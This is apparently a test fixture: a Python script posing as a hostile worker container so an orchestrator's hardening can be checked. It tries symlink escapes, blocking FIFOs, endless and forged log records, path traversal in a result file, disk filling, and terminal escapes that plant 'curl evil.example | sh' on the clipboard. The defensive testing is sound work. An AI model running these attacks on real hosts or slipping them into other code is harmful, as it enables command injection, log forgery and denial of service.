"""A hostile worker: what a user's script or another image could do to the host through orch's mounts.

It runs as an orch replica (see tests/test_hostile.py) and attacks every path orch reads or once wrote:
links, FIFOs, a device, endless lines, forged and malformed records, edits of orch's own files, a
planted link in the shared folder, and exit 137 so that orch restarts the group and reads it all again.
It prints what each attempt did, so the test log shows it.

Other attacks are modes, named by the script's first argument (with --script) or else by the run id's
second word (``hostile-<mode>-...``); each reports the way orch's trainer does, as files in the replica's
folder or, with ORCH_REPORT=stdout (Swarm), as ``@orch`` lines on stdout:

- escapes: terminal escapes (ESC[2J, OSC 0 window title, OSC 52 clipboard, C1 CSI) on stdout and stderr
  and in an error event; a bare \r inside a line that forges a log record and an @orch record; exit 3.
- numbers: epochs, sample counts, times and seconds of 10**400 (and of 5,000 digits), inf and nan in
  events, a heartbeat and the result; exit 0.
- future: joins, writes a heartbeat ten years ahead, then stalls.
- deep: leaves a folder 1,200 levels deep and a mode-000 folder in the shared folder; exit 0.
- fifo: joins, then makes events.jsonl and heartbeat in its own folder FIFOs and goes on reporting events
  (Swarm with --script: orch's copier appends them there): first with no reader, then held open for reading
  and never read, with more events than a pipe holds; then stalls.
- flood: worker 0 writes 72 MiB of distinct epoch records into its own events file (Compose: the engine keeps
  only 30 MB of a container's stdout), past orch's 64 MiB limit, then a valid result; every worker exits 0.
- disk: writes 1 MiB blocks without bound (at most 4 GiB) into its own folder, or into the shared folder
  where its own folder is not the host's (Swarm without --script).
"""
import base64
import json
import os
import signal
import sys
import time

run_id = os.environ.get("ORCH_RUN_ID", "")
worker = int(os.environ.get("ORCH_WORKER_INDEX", "0"))
out = os.environ.get("ORCH_OUT_DIR", "/orch/run")
mine = os.environ.get("ORCH_OUTPUT_DIR") or os.path.join(out, f"worker-{worker}")
shared = os.environ.get("ORCH_SHARED_DIR") or os.path.join(out, "shared")
to_stdout = os.environ.get("ORCH_REPORT") == "stdout"
words = run_id.split("-")
mode = sys.argv[1] if len(sys.argv) > 1 else (words[1] if len(words) > 1 and words[0] == "hostile" else "attack")


def attempt(what, fn):
    try:
        fn()
        print(f"[hostile {worker}] {what}: done", flush=True)
    except OSError as exc:
        print(f"[hostile {worker}] {what}: refused ({exc.strerror})", flush=True)


def replace(name, make):
    path = os.path.join(mine, name)
    if os.path.lexists(path):
        os.unlink(path)
    make(path)


def write(path, text):
    with open(path, "w") as f:
        f.write(text)


def event(**fields):
    return json.dumps({"v": 2, "time": time.time(), **fields}) + "\n"


def report(name, text):
    """A record, as orch's trainer reports it: into the replica's folder, or as an @orch line on stdout."""
    if to_stdout:
        sys.stdout.write(f"@orch {name} 1/1 {text}\n")
        sys.stdout.flush()
    elif name == "events.jsonl":
        with open(os.path.join(mine, name), "a") as f:
            f.write(text + "\n")
    else:
        path = os.path.join(mine, name)
        write(path + ".tmp", text + "\n")
        os.replace(path + ".tmp", path)


def report_event(**fields):
    report("events.jsonl", event(**fields).rstrip("\n"))


def heartbeat(when):
    """A heartbeat at ``when``: the file's modification time (files), or the time printed (stdout)."""
    report("heartbeat", f"{when:.3f}")
    if not to_stdout:
        os.utime(os.path.join(mine, "heartbeat"), (when, when))


def stall():
    print(f"[hostile {worker}] stalling", flush=True)
    time.sleep(3600)
    sys.exit(0)


def emit(stream, text):
    """``text`` as UTF-8 bytes on ``stream``, whatever the locale."""
    stream.buffer.write(text.encode("utf-8"))
    stream.flush()


# Terminal escapes: clear the screen, set the window title, put a command on the clipboard, a C1 CSI.
ESCAPES = ("\x1b[2J\x1b[H" + "\x1b]0;hostile-title\x07"
           + "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07" + "\x9b31mC1-CSI")


def escapes():
    report_event(event="start", worker=worker, stage="importing")
    emit(sys.stdout, f"[hostile {worker}] stdout {ESCAPES} end\n")
    emit(sys.stderr, f"[hostile {worker}] stderr {ESCAPES} end\n")
    # A \r in one line, read back as a line break, would start a record of the time and stream it names.
    emit(sys.stdout, f"[hostile {worker}] innocent\r2020-01-01T00:00:00.000000000Z stderr FORGED-BY-CR\n")
    # ... or a report line: a result that claims a test accuracy.
    forged = json.dumps({"v": 2, "worker": worker, "test_accuracy": 0.99, "train_seconds": 1.0})
    emit(sys.stdout, f"progress 10%\r@orch result.json 1/1 {forged}\n")
    report_event(event="error", worker=worker, message=f"hostile error {ESCAPES} and a\rcarriage return")
    time.sleep(4)  # long enough for orch to read the error event before it sees the exit
    emit(sys.stderr, f"[hostile {worker}] last words {ESCAPES}\n")
    sys.exit(3)


def numbers():
    huge = 10**400
    report_event(event="start", worker=worker, stage="importing")
    report_event(event="start", worker=worker, stage="training", steps_per_epoch=huge)
    report_event(event="start", worker=worker, stage="training", steps_per_epoch=20)
    heartbeat(time.time())
    report_event(event="epoch", worker=worker, epoch=1, epochs=2, loss=0.5, accuracy=0.5, val_loss=0.5,
                 val_accuracy=0.5, seconds=1.0, samples=1920)  # the one valid epoch
    report_event(event="epoch", worker=worker, epoch=huge, epochs=huge, samples=huge, loss=0.5)
    report_event(event="epoch", worker=worker, epoch=2, epochs=2, samples=huge, seconds=1.0, loss=0.5)
    report_event(event="epoch", worker=worker, epoch=2, loss=float("inf"), accuracy=float("nan"), samples=1920)
    report_event(event="epoch", worker=worker, epoch=2, loss=0.5, seconds=1e300, samples=-1)
    report_event(event="resumed", worker=worker, epoch=huge)
    report("events.jsonl", json.dumps({"v": 2, "event": "epoch", "worker": worker, "time": huge, "epoch": 3}))
    # An integer of 5,000 digits: more than Python's int() reads by default (4,300).
    report("events.jsonl", '{"v": 2, "event": "epoch", "worker": %d, "time": 1, "epoch": 1%s}' % (worker, "0" * 5000))
    report_event(event="done", worker=worker, train_seconds=huge, test_accuracy=0.5)
    report_event(event="done", worker=worker, train_seconds=float("inf"), test_accuracy=float("nan"))
    report("heartbeat", "1e400")
    report("result.json", json.dumps({
        "v": 2, "worker": worker, "num_workers": huge, "replicas": 1, "global_batch": huge, "steps_per_epoch": huge,
        "train_samples": huge, "epochs": [{"epoch": 1, "loss": huge, "accuracy": float("inf"), "seconds": float("nan")}],
        "samples_per_epoch": [huge, huge], "train_seconds": huge, "test_accuracy": 0.5}))
    time.sleep(3)
    sys.exit(0)


def flood():
    report_event(event="start", worker=worker, stage="training", steps_per_epoch=20)
    heartbeat(time.time())
    if worker == 0 and not to_stdout:
        line = '{"v": 2, "event": "epoch", "worker": %d, "time": %.3f, "epoch": %d, "loss": %.6f, "samples": 1920}\n'
        written, n = 0, 0
        with open(os.path.join(mine, "events.jsonl"), "a") as f:
            while written < 72 << 20:
                n += 1
                text = line % (worker, time.time(), n % 1_000_000 + 1, 1.0 / n)
                f.write(text)
                written += len(text)
        print(f"[hostile {worker}] wrote {n} epoch records, {written} bytes", flush=True)
    else:
        report_event(event="epoch", worker=worker, epoch=1, epochs=1, loss=0.5, seconds=1.0, samples=1920)
    heartbeat(time.time())
    report("result.json", json.dumps({"v": 2, "worker": worker, "replicas": 1, "samples_per_epoch": [1920],
                                      "train_seconds": 3.0, "test_accuracy": 0.5}))
    report_event(event="done", worker=worker, train_seconds=3.0, test_accuracy=0.5)
    time.sleep(1)
    sys.exit(0)


def future():
    report_event(event="start", worker=worker, stage="training", steps_per_epoch=20)
    heartbeat(time.time() + 10 * 365 * 86400)  # ten years ahead: never stale, unless orch clamps it
    stall()


def deep():
    # 1,200 levels below the shared folder, made one level at a time (a path that long is still valid).
    os.chdir(shared)
    top = f"deep-{worker}"
    os.mkdir(top)
    os.chdir(top)
    for _ in range(1200):
        os.mkdir("d")
        os.chdir("d")
    write("bottom.txt", "1,200 levels down\n")
    os.chdir(shared)
    # A folder no one may enter, holding a file and a folder.
    locked = os.path.join(shared, f"locked-{worker}")
    os.makedirs(os.path.join(locked, "inner"))
    write(os.path.join(locked, "secret.txt"), "x\n")
    os.chmod(os.path.join(locked, "inner"), 0)
    os.chmod(locked, 0)
    print(f"[hostile {worker}] left a folder 1,200 levels deep and a mode-000 folder in {shared}", flush=True)
    sys.exit(0)


def fifo():
    report_event(event="start", worker=worker, stage="training", steps_per_epoch=20)
    heartbeat(time.time())
    time.sleep(3)  # orch reads (or copies) these first
    paths = [os.path.join(mine, name) for name in ("events.jsonl", "heartbeat")]
    for path in paths:
        if os.path.lexists(path):
            os.unlink(path)
        os.mkfifo(path)
        print(f"[hostile {worker}] {os.path.basename(path)} is a FIFO", flush=True)
    # No reader: a plain open for writing (orch's copier appending what this worker prints) waits for one.
    if to_stdout:
        for epoch in range(1, 4):
            report_event(event="epoch", worker=worker, epoch=epoch, loss=0.5, samples=1920)
            time.sleep(1)
    # Then held open for reading and never read: a non-blocking open for writing succeeds, and a writer that
    # went on writing would block once the pipe (64 KiB) is full.
    held = [os.open(path, os.O_RDONLY | os.O_NONBLOCK) for path in paths]
    print(f"[hostile {worker}] holding {len(held)} FIFOs open, unread", flush=True)
    if to_stdout:
        for epoch in range(1, 1001):  # about 150 KB of events
            report_event(event="epoch", worker=worker, epoch=epoch, loss=0.5, samples=1920, seconds=1.0,
                         accuracy=0.5, val_loss=0.5, val_accuracy=0.5)
    stall()


def disk():
    # The replica's own folder, where it is the host's; else the shared folder (Swarm, without --script).
    folder = mine if (not to_stdout or os.environ.get("ORCH_OUTPUT_DIR")) else shared
    block = os.urandom(1 << 20)
    print(f"[hostile {worker}] writing without bound into {folder}", flush=True)
    with open(os.path.join(folder, "filler.bin"), "wb") as f:
        for _ in range(4096):  # 4 GiB at most, should orch never stop it
            f.write(block)
            f.flush()
            time.sleep(0.01)
    stall()


MODES = {"escapes": escapes, "numbers": numbers, "future": future, "deep": deep, "fifo": fifo, "disk": disk,
         "flood": flood}
if mode in MODES:
    print(f"[hostile {worker}] mode {mode}", flush=True)
    MODES[mode]()

# What the replica can see of the run directory: its own folder and the shared one, nothing else.
print(f"[hostile {worker}] sees {sorted(os.listdir(out))}", flush=True)
# orch's own files: not mounted, and the root filesystem is read-only.
for name in ("compose.yml", "run.json", "plan.json", "stats.csv", "run.json.tmp"):
    attempt(f"write /orch/run/{name}", lambda name=name: write(os.path.join(out, name), "services: {x: {privileged: true}}\n"))
attempt("write the image's root filesystem", lambda: write("/etc/orch-was-here", "x"))

if run_id.startswith("hostile-hang"):
    # Never join; make every file orch polls something that blocks a plain open().
    for name in ("events.jsonl", "result.json", "heartbeat"):
        attempt(f"{name} as a FIFO", lambda name=name: replace(name, os.mkfifo))
    time.sleep(3600)

if worker == 0:
    # Links out of the folder: to orch's record, to a device, and where orch once saved logs.
    attempt("events.jsonl -> ../run.json", lambda: replace("events.jsonl", lambda p: os.symlink("../run.json", p)))
    attempt("result.json -> /dev/zero", lambda: replace("result.json", lambda p: os.symlink("/dev/zero", p)))
    attempt("heartbeat -> ../plan.json", lambda: replace("heartbeat", lambda p: os.symlink("../plan.json", p)))
    attempt("container.log -> ../compose.yml", lambda: replace("container.log", lambda p: os.symlink("../compose.yml", p)))
    attempt("predictions.npz -> /dev/zero", lambda: replace("predictions.npz", lambda p: os.symlink("/dev/zero", p)))
    attempt("shared/evil -> ../..", lambda: os.symlink("../..", os.path.join(shared, f"evil-{time.time_ns()}")))
elif worker == 1:
    for name in ("events.jsonl", "result.json", "heartbeat", "predictions.npz"):
        attempt(f"{name} as a FIFO", lambda name=name: replace(name, os.mkfifo))
else:
    # Forged and malformed records, behind a line with no end that orch must not hold in memory.
    def endless(path):
        with open(path, "w") as f:
            chunk = "x" * (1 << 20)
            for _ in range(96):
                f.write(chunk)
            f.write("\n")
            f.write(event(event="start", worker=worker, stage="training"))
            f.write(event(event="start", worker=0, stage="training"))  # claims to be worker 0
            f.write(event(event="done", worker=worker, train_seconds=1.0, test_accuracy=7.0))  # out of range
            f.write(event(event="epoch", worker=worker, epoch=1, loss=float("nan")))
            f.write('{"v": 2, "event": "epoch", "worker": 2, "epoch": ' + "[" * 50000 + "\n")  # deep nesting
            f.write(json.dumps({"v": 99, "event": "epoch"}) + "\n" if run_id.endswith("-v99") else "")
            f.write("z" * (1 << 20))  # and a last line that never ends
    attempt("events.jsonl: a 96 MiB line, forged and malformed events", lambda: replace("events.jsonl", endless))
    attempt("result.json forged", lambda: replace("result.json", lambda p: write(p, json.dumps(
        {"v": 2, "worker": 0, "run_id": "../../../tmp/owned", "test_accuracy": 0.99, "train_seconds": 1.0}))))
    attempt("heartbeat as a directory", lambda: replace("heartbeat", os.mkdir))

sys.stdout.flush()
time.sleep(8)  # long enough for orch to read through the endless line before the restart
os.kill(os.getpid(), signal.SIGKILL)  # exit 137: orch may restart the group, and meets all of the above again
